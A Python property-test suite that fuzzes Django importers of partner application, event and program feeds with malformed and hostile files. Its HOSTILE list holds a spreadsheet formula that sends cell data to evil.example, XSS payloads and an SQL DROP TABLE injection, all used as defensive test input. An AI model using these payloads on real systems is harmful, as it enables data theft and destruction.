"""Property tests (Hypothesis) over the РР and Odin importers (issue #9; checklist IMP-02, IMP-04,
R12): whatever the bytes — random binary, CSV or JSON Lines of random shape, delimiter, quoting
and encoding, truncated mid-row, huge or hostile cells, valid-looking rows mixed with bad ones —
an import ends in a result with a report, never an exception, and:

- an unusable file writes nothing but its refused ImportRun;
- every data row is reported exactly once (an outcome count or a rejection);
- the tables grow by exactly what the counts say (a batch is written whole: nothing from a
  rejected row, nothing beyond the report);
- the same bytes delivered again change nothing and send no e-mail.

Each example runs inside a savepoint that is rolled back, so examples do not see each other and
the function-scoped pytest-django database stays valid. `HYPOTHESIS_EXAMPLES` sets the number of
examples (500 by default, as CI runs them)."""
import csv
import io
import json
import os
from contextlib import contextmanager

import pytest
from django.db import transaction
from django.db.models import Count
from django.utils import timezone
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st

from accounts.models import User
from core.imports import ImportResult
from core.models import ImportRun, OutgoingEmail
from enrollment.models import Application, ApplicationEvent, Citizen
from enrollment.services.feed import ApplicationFeed, RREventFeed, rr_import
from programs.models import Program, ProgramEvent
from programs.services.odin import ProgramFeed, odin_import
from tests.enrollment.factories import ApplicationFactory, CitizenFactory, valid_snils
from tests.factories import CampaignFactory, OrganizationFactory
from tests.programs.factories import CohortFactory, ProgramFactory

pytestmark = pytest.mark.django_db

EXAMPLES = int(os.environ.get("HYPOTHESIS_EXAMPLES", "500"))
PROPERTY = settings(
    max_examples=EXAMPLES, deadline=None, database=None, print_blob=True,
    # The database fixture is function-scoped on purpose: every example is rolled back (see `rolled_back`).
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large,
                           HealthCheck.large_base_example])

# Cells an attacker or a broken export would send (IMP-05, EXP-01, R12).
HOSTILE = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Жми\")", "+7(913)555", "-1+1", "@SUM(A1:A9)", "\t=1+2",
           "\r=1", "javascript:alert(1)", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
           "'; DROP TABLE enrollment_application; --", "\x00", "\u202e", "\ufffd", "NaN", "Infinity", "null",
           "1e309", "-0", "9" * 40, "ё" * 600, "x" * 70_000, "  ", '"', '""', "a\nb", "a\r\nb", ";", ",")
DELIMITERS = (",", ";", "\t", "|")
ENCODINGS = ("utf-8", "utf-8-sig", "cp1251")

APPLICATION_GOOD = {
    "rr_number": [f"РР-2026-{n:06d}" for n in range(1, 9)],
    "submitted_at": ["2026-02-10T12:00:00+07:00", "2026-01-05T09:00:00Z", "2026-02-11T08:00:00+03:00",
                     "2026-02-10 12:00", "2099-01-01T00:00:00+03:00", "10.02.2026"],
    "last_name": ["Петров", "  Иванова  ", "Ёлкин", "O'Brien"],
    "first_name": ["Пётр", "Анна"],
    "middle_name": ["Петрович", ""],
    "birth_date": ["1985-05-17", "17.05.1985", "2020-01-01", "1899-12-31", "2030-01-01", "31.02.1985"],
    "snils": [valid_snils(n) for n in range(1, 6)] + ["112-233-445 95", "12345678901", "000"],
    "email": [f"c{n}@example.org" for n in range(1, 6)] + ["C1@Example.org", "not-an-email", "staff@flow.test"],
    "phone": ["+7 913 555-00-00", "8 (913) 555-00-01", "9135550002", "12"],
    "region_code": ["70", "7", "99", "77"],
    "program_odin_id": ["p-1", "p-2", "p-missing"],
    "cohort_odin_id": ["c-1", "c-2", "", "c-missing"],
    "category": ["unemployed", "UNEMPLOYED", "", "no-such-category"],
}
EVENT_GOOD = {
    "rr_number": ["РР-2026-000001", "РР-2026-000002", "РР-2026-000003", "РР-2026-404"],
    "event": ["agreement_signed", "service_terminated", "employed", "Employed", "born"],
    "occurred_at": ["2026-03-10T09:00:00+03:00", "2026-03-11T09:00:00Z", "2026-03-10", "2099-01-01T00:00:00Z"],
    "details": ["Подписан всеми сторонами", "", "Отозвана на РР"],
}


# Values that pass, column by column: a row made of them is imported (or collides with another row).
APPLICATION_VALID = {**{c: v[:2] for c, v in APPLICATION_GOOD.items()},
                     "rr_number": APPLICATION_GOOD["rr_number"], "snils": APPLICATION_GOOD["snils"][:5],
                     "email": APPLICATION_GOOD["email"][:5], "program_odin_id": ["p-1"], "cohort_odin_id": ["c-1", ""],
                     "submitted_at": APPLICATION_GOOD["submitted_at"][:3]}
EVENT_VALID = {**{c: v[:3] for c, v in EVENT_GOOD.items()}, "occurred_at": EVENT_GOOD["occurred_at"][:2]}


def program_valid(inn: str) -> dict:
    return {**{c: v[:2] for c, v in program_good(inn).items()}, "odin_id": ["p-1", "p-2", "p-3", "p-new"],
            "partner_inn": [inn], "campaign_code": ["amsz-2026"], "national_project": ["1", "да", "0"],
            "kind": ["ПО", "dpo_pk", "ДПО ПП"], "study_form": ["очная", "full_time", "очно-заочная"],
            "min_education_level": ["", "основное общее", "СПО или ВО"]}


def program_good(inn: str) -> dict:
    return {
        "odin_id": ["p-1", "p-2", "p-3", "p-new"], "partner_inn": [inn, "7701234567", "1234567890", "abc"],
        "campaign_code": ["amsz-2026", "amsz-1999"], "national_project": ["1", "0", "да", "нет", "maybe"],
        "title": ["Сварщик", "Оператор ЧПУ"], "short_title": ["", "Сварщик"], "kind": ["ПО", "dpo_pk", "ДПО ПП", "?"],
        "academic_hours": ["256", "72", "-1", "1,5", "99999999999999999999"], "distance_hours": ["", "0", "64", "500"],
        "study_form": ["очная", "full_time", "очно-заочная", "дистанционная"],
        "min_education_level": ["", "основное общее", "СПО или ВО", "докторантура"],
        "qualification": ["", "Сварщик 3-го разряда"],
    }


# Strategies -----------------------------------------------------------------------------------

def cell(good: dict, column: str):
    return st.one_of(st.sampled_from(good.get(column, [""])), st.sampled_from(HOSTILE), st.text(max_size=12))


@st.composite
def csv_files(draw, good: dict) -> tuple[bytes, str]:
    """A CSV file of random shape: the known columns (most often all, shuffled; sometimes a subset,
    an unknown or a repeated one), rows of the right length or not, random delimiter, quoting and
    encoding, and sometimes cut off mid-row."""
    known = list(good)
    header = draw(st.one_of(
        st.permutations(known),
        st.lists(st.sampled_from([*known, "unknown", ""]), min_size=1, max_size=len(known) + 2)))
    rows = []
    for _ in range(draw(st.integers(0, 6))):
        width = max(0, len(header) + draw(st.sampled_from([0, 0, 0, -1, 1])))
        rows.append([draw(cell(good, header[i])) if i < len(header) else draw(cell(good, "")) for i in range(width)])
    delimiter = draw(st.sampled_from(DELIMITERS))
    buffer = io.StringIO(newline="")
    if draw(st.booleans()):
        quoting = draw(st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL, csv.QUOTE_NONNUMERIC]))
        writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting,
                            lineterminator=draw(st.sampled_from(["\n", "\r\n"])))
        writer.writerow(header)
        writer.writerows(rows)
        text = buffer.getvalue()
    else:  # written by hand, unquoted: stray quotes and delimiters inside cells break the shape
        text = "\n".join(delimiter.join(r) for r in [header, *rows]) + "\n"
    data = text.encode(draw(st.sampled_from(ENCODINGS)), errors="replace")
    if draw(st.integers(0, 4)) == 0:
        data = data[:draw(st.integers(0, len(data)))]
    return data, "feed.csv"


@st.composite
def plausible_files(draw, valid: dict, good: dict) -> tuple[bytes, str]:
    """What a partner system really sends, give or take: every column, rows of valid values with
    now and then a bad or hostile cell, in any delimiter and encoding."""
    header = draw(st.permutations(list(valid)))
    rows = []
    for _ in range(draw(st.integers(1, 6))):
        values = {c: draw(st.sampled_from(valid[c])) for c in header}
        for column in draw(st.lists(st.sampled_from(header), max_size=2)):
            values[column] = draw(cell(good, column))
        rows.append([values[c] for c in header])
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=draw(st.sampled_from(DELIMITERS[:3])))
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(draw(st.sampled_from(ENCODINGS)), errors="replace"), "feed.csv"


@st.composite
def jsonl_files(draw, good: dict) -> tuple[bytes, str]:
    """JSON Lines: objects with known or unknown keys and any JSON values, and broken lines."""
    lines = []
    for _ in range(draw(st.integers(1, 6))):
        if draw(st.integers(0, 5)) == 0:
            lines.append(draw(st.sampled_from(["{", "[1, 2]", '"text"', "{'single': 'quotes'}", "", "NaN",
                                               '{"rr_number": NaN}'])))
            continue
        keys = draw(st.lists(st.sampled_from([*good, "unknown"]), max_size=len(good) + 1, unique=True))
        value = st.one_of(st.sampled_from([*HOSTILE, None, True, 7, -1.5, [1], {"a": 1}]), st.text(max_size=8))
        lines.append(json.dumps({k: draw(cell(good, k)) if draw(st.booleans()) else draw(value) for k in keys},
                                ensure_ascii=draw(st.booleans())))
    return ("\n".join(lines) + "\n").encode(), "feed.jsonl"


def feed_files(valid: dict, good: dict):
    return st.one_of(
        plausible_files(valid, good), plausible_files(valid, good), plausible_files(valid, good),
        csv_files(good), jsonl_files(good),
        st.binary(max_size=600).map(lambda b: (b, "feed.csv")),
        # A valid header with random bytes after it: binary garbage inside an otherwise good file.
        st.binary(max_size=300).map(lambda b: (",".join(good).encode() + b"\n" + b, "feed.csv")),
    )


# Invariants -----------------------------------------------------------------------------------

@contextmanager
def rolled_back():
    """One example's world: everything it wrote is undone afterwards."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


TABLES = {"applications": Application, "citizens": Citizen, "users": User, "application_events": ApplicationEvent,
          "outbox": OutgoingEmail, "programs": Program, "program_events": ProgramEvent, "runs": ImportRun}


def snapshot() -> dict[str, int]:
    return {name: model.objects.count() for name, model in TABLES.items()}


def grew(before: dict, after: dict) -> dict[str, int]:
    return {name: after[name] - before[name] for name in before if after[name] != before[name]}


def check_report(result, feed, row_outcomes: tuple[str, ...], before: dict, after: dict) -> ImportRun:
    """What every run must satisfy, whatever the file."""
    assert isinstance(result, ImportResult)
    assert result.exit_code in (0, 1, 3)
    # The shape of the examples, shown by --hypothesis-show-statistics: most must reach the rows.
    event(f"exit {result.exit_code}")
    for outcome in ("created", "updated", "held", "skipped"):
        if result.counts[outcome]:
            event(f"some {outcome}")
    assert result.summary(feed.outcome_labels, feed.extra_outcome_labels)  # the report renders
    run = ImportRun.objects.order_by("-pk").first()
    assert run.pk == result.run_id
    if result.unusable:
        assert not result.errors
        assert not result.counts
        assert grew(before, after) == {"runs": 1}, "an unusable file wrote something"
        assert (run.status, run.message) == (ImportRun.Status.REFUSED, result.unusable)
        return run
    assert sum(result.counts[o] for o in row_outcomes) == result.rows, "a row without an outcome, or two"
    assert len({e.row for e in result.errors}) == result.counts["rejected"]
    assert all(e.reason for e in result.errors)
    assert run.status == (ImportRun.Status.COMPLETED_WITH_ERRORS if result.errors else ImportRun.Status.COMPLETED)
    assert (run.rows, run.rejected, run.errors_total) == (result.rows, result.counts["rejected"], len(result.errors))
    return run


def check_again(run_feed, first: ImportResult, table: str) -> None:
    """The same bytes again. A clean file is a recorded duplicate and changes nothing. A file with
    refused rows is processed again (a refused row may pass now: its citizen or program arrived
    meanwhile): the rows the first delivery accepted are unchanged, only refused ones may pass, and
    only their new applications bring e-mails — never a second copy of anything."""
    before = snapshot()
    again = run_feed()
    change = grew(before, snapshot())
    clean = not first.unusable and not first.errors
    assert (again.duplicate_of is not None) == clean
    if clean:
        assert change == {"runs": 1}, "a repeated clean delivery changed data"
        assert ImportRun.objects.get(pk=again.run_id).status == ImportRun.Status.DUPLICATE
        return
    assert again.counts["created"] + again.counts["updated"] + again.counts["held"] <= first.counts["rejected"]
    assert change.get(table, 0) == again.counts["created"]
    assert change.get("outbox", 0) == again.counts["invitations"] <= again.counts["created"]


# РР applications ------------------------------------------------------------------------------

@pytest.fixture
def rr_world(db):
    """Two programs with cohorts, an existing application (a row for it is an update) and a staff
    account whose e-mail a row may try to take."""
    program = ProgramFactory(odin_id="p-1")
    CohortFactory(program=program, odin_id="c-1")
    CohortFactory(program=program, odin_id="c-2")
    CohortFactory(program=ProgramFactory(odin_id="p-2"), odin_id="c-other")
    ApplicationFactory(rr_number="РР-2026-000001", program=program, cohort=program.cohorts.get(odin_id="c-1"),
                       citizen=CitizenFactory(snils=valid_snils(1), email="c1@example.org"),
                       submitted_at=timezone.now() - timezone.timedelta(days=30))
    User.objects.create_user(email="staff@flow.test", password="x" * 12)


APPLICATION_ROWS = ("created", "updated", "unchanged", "rejected")


def _found(rows: list[str]) -> bytes:
    header = "submitted_at,last_name,first_name,middle_name,birth_date,phone,rr_number,cohort_odin_id,snils," \
             "region_code,program_odin_id,category,email"
    return "\r\n".join([header, *(f"2026-02-10T12:00:00+07:00,Петров,Пётр,Петрович,1985-05-17,+7 913 555-00-00,"
                                   f"{r},70,p-1,unemployed,{e}" for r, e in rows), ""]).encode()


@PROPERTY
@given(file=feed_files(APPLICATION_VALID, APPLICATION_GOOD), batch_size=st.sampled_from([1, 2, 1000]))
# What Hypothesis found, kept: a known citizen's row with a new e-mail, then another person with it
# (the second was refused, then accepted on redelivery); a refused row whose SNILS a later row creates.
@example(file=(_found([("РР-2026-000002,c-1,00000000101", "c3@example.org"),
                       ("РР-2026-000003,c-1,00000000202", "c3@example.org")]), "feed.csv"), batch_size=2)
@example(file=(_found([("РР-2026-000002,c-1,00000000202", "c1@example.org"),
                       ("РР-2026-000003,c-1,00000000202", "c2@example.org")]), "feed.csv"), batch_size=1)
def test_any_applications_file_ends_in_a_report_and_writes_exactly_what_it_reports(rr_world, file, batch_size):
    data, name = file
    with rolled_back():
        before = snapshot()
        result = rr_import(kind="applications", source=data, name=name, batch_size=batch_size, initiator="test")
        after = snapshot()
        check_report(result, ApplicationFeed, APPLICATION_ROWS, before, after)
        change = grew(before, after)
        assert change.get("applications", 0) == result.counts["created"]
        assert change.get("citizens", 0) == result.counts["citizens_created"]
        assert change.get("outbox", 0) == result.counts["invitations"]
        assert change.get("application_events", 0) == (
            result.counts["created"] + result.counts["updated"] + result.counts["deactivated"])
        assert Application.objects.filter(citizen__isnull=True).count() == 0
        # One active application per citizen, whatever arrived.
        assert not Application.objects.filter(is_active=True).values("citizen").annotate(
            n=Count("pk")).filter(n__gt=1).exists()
        check_again(lambda: rr_import(kind="applications", source=data, name=name, batch_size=batch_size,
                                      initiator="test"), result, "applications")


# РР events ------------------------------------------------------------------------------------

@pytest.fixture
def events_world(db):
    status = Application.Status
    program = ProgramFactory(odin_id="p-1")
    for number, value in ((1, status.AWAITING_AGREEMENT), (2, status.STUDYING), (3, status.AWAITING_EMPLOYMENT)):
        ApplicationFactory(rr_number=f"РР-2026-{number:06d}", program=program, status=value)


@PROPERTY
@given(file=feed_files(EVENT_VALID, EVENT_GOOD), batch_size=st.sampled_from([1, 1000]))
def test_any_events_file_ends_in_a_report_and_applies_exactly_what_it_reports(events_world, file, batch_size):
    data, name = file
    with rolled_back():
        before = snapshot()
        result = rr_import(kind="events", source=data, name=name, batch_size=batch_size, initiator="test")
        after = snapshot()
        check_report(result, RREventFeed, ("updated", "unchanged", "rejected"), before, after)
        change = grew(before, after)
        # Each applied event writes one history row; nothing else grows.
        assert change.get("application_events", 0) == result.counts["updated"]
        assert set(change) <= {"application_events", "runs"}
        check_again(lambda: rr_import(kind="events", source=data, name=name, batch_size=batch_size,
                                      initiator="test"), result, "applications")


# Odin programs --------------------------------------------------------------------------------

@pytest.fixture
def odin_world(db):
    campaign = CampaignFactory()
    partner = OrganizationFactory()
    ProgramFactory(odin_id="p-1", partner=partner, campaign=campaign, title="Сварщик")
    return partner


PROGRAM_ROWS = ("created", "updated", "unchanged", "held", "rejected", "skipped", "flag_removed")


@PROPERTY
@given(data=st.data())
def test_any_odin_programs_file_ends_in_a_report_and_writes_exactly_what_it_reports(odin_world, data):
    good = program_good(odin_world.inn)
    file, name = data.draw(feed_files(program_valid(odin_world.inn), good), label="file")
    batch_size = data.draw(st.sampled_from([1, 1000]), label="batch_size")
    with rolled_back():
        before = snapshot()
        result = odin_import(kind="programs", source=file, name=name, batch_size=batch_size, initiator="test")
        after = snapshot()
        check_report(result, ProgramFeed, PROGRAM_ROWS, before, after)
        change = grew(before, after)
        assert change.get("programs", 0) == result.counts["created"]
        assert change.get("program_events", 0) == (
            result.counts["created"] + result.counts["updated"] + result.counts["held"])
        assert set(change) <= {"programs", "program_events", "runs"}
        check_again(lambda: odin_import(kind="programs", source=file, name=name, batch_size=batch_size,
                                        initiator="test"), result, "programs")
